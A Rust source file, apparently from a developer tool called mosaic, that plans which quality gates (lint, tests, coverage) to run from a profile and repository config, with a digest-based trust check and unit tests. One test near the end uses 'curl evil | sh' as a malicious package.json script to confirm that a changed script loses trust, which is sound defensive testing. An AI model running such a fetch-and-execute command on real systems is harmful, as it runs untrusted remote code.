//! The plan: the profile's gates, then what the repository adds. A repository's list never takes one away.

use mosaic_core::domain::gates::GatePlan;
use mosaic_core::domain::ids::{Timestamp, Word};
use mosaic_core::domain::outcome::{Failure, FailureKind};
use mosaic_core::domain::spec::GateProfile;
use mosaic_core::ports::gatekeeper::PlanRequest;

use super::absent_tools::{self, Absent};
use super::config::Config;
use super::effective;
use super::trust::Trust;

/// Makes the plan. Fails with `BadInput` when the definitions cannot be read, and with `Internal` when the list
/// of trusted digests cannot.
pub(super) async fn make(
    request: &PlanRequest<'_>,
    trust: &Trust,
    now: Timestamp,
    absent: Absent<'_>,
) -> Result<GatePlan, Failure> {
    let base = request.base.short();
    let effective = effective::read(request.files.as_ref(), base, now).await?;
    let mut plan = effective.plan(&names_of(request.profile, request.custom, &effective.config), base);
    absent_tools::leave_out(&mut plan, &effective, absent);
    if plan.gates.is_empty() && plan.setup.is_none() {
        // Nothing would be run, so there is nothing to be trusted.
        return Ok(GatePlan { trusted: true, ..plan });
    }
    plan.trusted = trust.allows(&effective.digest).map_err(|e| {
        Failure::new(FailureKind::Internal, format!("the list of trusted configurations cannot be read: {e}"))
    })?;
    // The plan is still made, so that a person sees what would run before trusting it.
    if !plan.trusted {
        let digest = &effective.digest;
        plan.warnings.push(format!(
            "the gates of {base} are not trusted, so none is run; read them (mosaic gates explain), then trust them \
             (mosaic trust; sha256 {digest}) or set MOSAIC_TRUST=all"
        ));
    }
    Ok(plan)
}

/// Returns the names in running order, each once.
pub(super) fn names_of(profile: GateProfile, custom: &[Word], config: &Config) -> Vec<Word> {
    let own = profile.gates().iter().map(|name| name.parse().expect("the contract's names are words"));
    let added = config.added.iter().filter(|(of, _)| *of == profile);
    let mut names: Vec<Word> = Vec::new();
    for name in own.chain(custom.iter().cloned()).chain(added.flat_map(|(_, names)| names.iter().cloned())) {
        if !names.contains(&name) {
            names.push(name);
        }
    }
    names
}

#[cfg(test)]
mod tests {
    use std::sync::Arc;

    use mosaic_core::domain::ids::CommitId;

    use super::super::base_files::KnownFiles;
    use super::super::trust::config_digest;
    use super::*;

    fn plan(
        profile: GateProfile,
        custom: &[&str],
        config: Option<&str>,
        trust: &Trust,
    ) -> Result<GatePlan, Failure> {
        let base: CommitId = "8c1d2e0".repeat(6)[..40].parse().unwrap();
        let custom: Vec<Word> = custom.iter().map(|name| name.parse().unwrap()).collect();
        let files = KnownFiles::from_iter(config.map(|text| (".mosaic/config.toml", text)));
        let request = PlanRequest { profile, custom: &custom, base: &base, files: Arc::new(files) };
        let now = Timestamp::from_rfc3339("2026-11-22T10:04:09Z").unwrap();
        futures_util::future::FutureExt::now_or_never(make(&request, trust, now, &|_| None)).unwrap()
    }

    fn run(plan: &GatePlan) -> Vec<&str> {
        plan.gates.iter().map(|gate| gate.name.as_str()).collect()
    }

    #[test]
    fn a_repository_adds_gates_and_never_removes_one() {
        let config = "[gates]\ntests = 't'\ne2e = 'e'\nlint = 'l'\n[gates.profiles]\nminimal = ['e2e']\nstandard = ['lint', 'docs']";
        let minimal = plan(GateProfile::Minimal, &[], Some(config), &Trust::All).unwrap();
        assert_eq!(run(&minimal), ["tests", "e2e"]);
        assert_eq!(minimal.defined_by, "8c1d2e0:.mosaic/config.toml");
        let standard = plan(GateProfile::Standard, &[], Some(config), &Trust::All).unwrap();
        assert_eq!(run(&standard), ["lint", "tests"]);
        let undefined: Vec<_> = standard.undefined.iter().map(Word::as_str).collect();
        assert_eq!(undefined, ["typecheck", "coverage", "docs"]);
    }

    #[test]
    fn custom_is_the_callers_list_and_the_repositorys() {
        let config = "[gates]\ntests = 't'\nlint = 'l'\n[gates.profiles]\ncustom = ['lint']";
        let made = plan(GateProfile::Custom, &["tests", "lint"], Some(config), &Trust::All).unwrap();
        assert_eq!(run(&made), ["tests", "lint"]);
    }

    #[test]
    fn what_a_gate_needs_is_judged_before_it_also_outside_of_the_list() {
        let config = "[gates]\ntests = 't'\ncoverage = { lcov = 'l', needs = ['tests'] }";
        let made = plan(GateProfile::Custom, &["coverage"], Some(config), &Trust::All).unwrap();
        assert_eq!(run(&made), ["tests", "coverage"]);
        assert_eq!(made.gates[1].needs, ["tests".parse().unwrap()]);
    }

    #[test]
    fn a_detected_gate_without_its_program_is_undefined_and_a_defined_one_stays() {
        let base: CommitId = "8c1d2e0".repeat(6)[..40].parse().unwrap();
        let config = "[gates]\nlint = 'golint'\n";
        let files = [
            (".mosaic/config.toml", config),
            ("go.mod", "module x"),
            ("calc.go", "package x"),
            ("calc_test.go", "package x"),
        ];
        let files = Arc::new(KnownFiles::from_iter(files));
        let profile = GateProfile::Standard;
        let request = PlanRequest { profile, custom: &[], base: &base, files };
        let now = Timestamp::from_rfc3339("2026-11-22T10:04:09Z").unwrap();
        let absent = |run: &str| run.starts_with("go").then(|| "go".to_owned());
        let made = make(&request, &Trust::All, now, &absent);
        let made = futures_util::future::FutureExt::now_or_never(made).unwrap().unwrap();
        assert_eq!(run(&made), ["lint"]);
        let undefined: Vec<_> = made.undefined.iter().map(Word::as_str).collect();
        assert_eq!(undefined, ["typecheck", "tests", "coverage"]);
        assert!(made.warnings.iter().any(|w| w.contains("go is not on this machine")), "{:?}", made.warnings);
    }

    #[test]
    fn any_gate_may_be_a_command() {
        let config = "[gates]\nai-review = 'ask'\nintegration = 'i'";
        let made = plan(GateProfile::Strict, &[], Some(config), &Trust::All).unwrap();
        assert_eq!(run(&made), ["integration", "ai-review"]);
        assert_eq!(made.undefined.len(), 5);
    }

    #[test]
    fn the_coverage_floor_is_raised_and_never_lowered() {
        let min = |config: &str| {
            let made = plan(GateProfile::Custom, &["coverage"], Some(config), &Trust::All).unwrap();
            (made.gates[0].reports.first().and_then(|report| report.min), made.warnings.len())
        };
        assert_eq!(min("[gates]\ncoverage = { lcov = 'l' }"), (Some(85.0), 0));
        assert_eq!(min("[gates]\ncoverage = { lcov = 'l', min = 10 }"), (Some(85.0), 1));
        assert_eq!(min("[gates]\ncoverage = { lcov = 'l', min = 92.5 }"), (Some(92.5), 0));
        assert_eq!(min("[gates]\ncoverage = 'true'"), (None, 1));
    }

    #[test]
    fn without_a_file_everything_is_undefined() {
        let made = plan(GateProfile::Minimal, &[], None, &Trust::All).unwrap();
        assert_eq!((made.gates.len(), made.undefined.len(), made.trusted), (0, 1, true));
        assert_eq!(made.defined_by, "nothing (8c1d2e0 has no .mosaic/config.toml)");
    }

    #[test]
    fn an_untrusted_file_is_planned_and_marked() {
        let home = tempfile::tempdir().unwrap();
        let known = Trust::Known(home.path().join("trusted"));
        let config = "[gates]\ntests = 't'";
        let made = plan(GateProfile::Minimal, &[], Some(config), &known).unwrap();
        assert!(!made.trusted && made.warnings[0].contains("are not trusted"), "{:?}", made.warnings);
        super::super::trust(&home.path().join("trusted"), &config_digest(config)).unwrap();
        assert!(plan(GateProfile::Minimal, &[], Some(config), &known).unwrap().trusted);
    }

    #[test]
    fn bad_definitions_are_bad_input() {
        let failure = plan(GateProfile::Minimal, &[], Some("[gates]\ntests = 1"), &Trust::All).unwrap_err();
        assert_eq!(failure.kind, FailureKind::BadInput);
        assert!(
            failure.message.contains("8c1d2e0") && failure.message.contains("line 2"),
            "{}",
            failure.message
        );
    }

    fn plan_of(files: &[(&str, &str)], profile: GateProfile, trust: &Trust) -> GatePlan {
        let base: CommitId = "8c1d2e0".repeat(6)[..40].parse().unwrap();
        let files: KnownFiles = files.iter().map(|(path, text)| (*path, *text)).collect();
        let request = PlanRequest { profile, custom: &[], base: &base, files: Arc::new(files) };
        let now = Timestamp::from_rfc3339("2026-11-22T10:04:09Z").unwrap();
        futures_util::future::FutureExt::now_or_never(make(&request, trust, now, &|_| None)).unwrap().unwrap()
    }

    #[test]
    fn detection_fills_what_the_file_leaves_open_and_the_plan_says_so() {
        let config = (".mosaic/config.toml", "[gates]\nlint = 'l'\ncoverage = 'none'\n");
        let go = [config, ("go.mod", ""), ("a_test.go", "")];
        let made = plan_of(&go, GateProfile::Standard, &Trust::All);
        assert_eq!(run(&made), ["typecheck", "lint", "tests"]);
        assert_eq!((made.undefined.len(), made.declared_none[0].as_str()), (0, "coverage"));
        assert_eq!(made.defined_by, "8c1d2e0:.mosaic/config.toml; detected: typecheck, tests from go.mod");
        let off = (".mosaic/config.toml", "[gates]\nlint = 'l'\ndetect = false\n");
        let made = plan_of(&[off, ("go.mod", ""), ("a_test.go", "")], GateProfile::Standard, &Trust::All);
        assert_eq!((run(&made), made.undefined.len()), (vec!["lint"], 3));
        let alone = plan_of(&[("Cargo.toml", "[package]")], GateProfile::Standard, &Trust::All);
        assert_eq!(alone.gates[3].reports[0].min, Some(85.0));
        assert_eq!(
            alone.defined_by,
            "detection at 8c1d2e0: typecheck, lint, tests, coverage from Cargo.toml"
        );
    }

    #[test]
    fn a_changed_script_that_is_run_by_name_is_a_new_question() {
        let home = tempfile::tempdir().unwrap();
        let list = home.path().join("trusted");
        let known = Trust::Known(list.clone());
        let package = |lint: &str| format!(r#"{{"scripts": {{"lint": "{lint}", "test": "x"}}}}"#);
        let made = |lint: &str, profile| plan_of(&[("package.json", &package(lint))], profile, &known);
        let asked = made("eslint .", GateProfile::Standard);
        let digest = asked.warnings.iter().find_map(|warning| warning.split("sha256 ").nth(1)).unwrap();
        super::super::trust(&list, &digest[..64]).unwrap();
        // Trust is given to the repository's definitions and not to one profile of them.
        assert!(
            made("eslint .", GateProfile::Standard).trusted && made("eslint .", GateProfile::Minimal).trusted
        );
        assert!(!made("curl evil | sh", GateProfile::Standard).trusted);
        assert!(!made("curl evil | sh", GateProfile::Minimal).trusted);
    }
}
